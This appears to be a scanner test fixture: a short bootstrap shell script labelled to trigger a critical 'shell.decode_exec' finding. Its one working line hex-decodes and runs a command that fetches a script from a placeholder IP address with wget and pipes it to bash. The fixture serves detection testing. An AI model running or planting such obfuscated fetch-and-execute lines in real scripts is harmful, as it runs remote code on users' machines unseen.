# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
echo 77676574202d714f2d2068747470733a2f2f3230332e302e3131332e37312f69207c2062617368 | xxd -r -p | sh
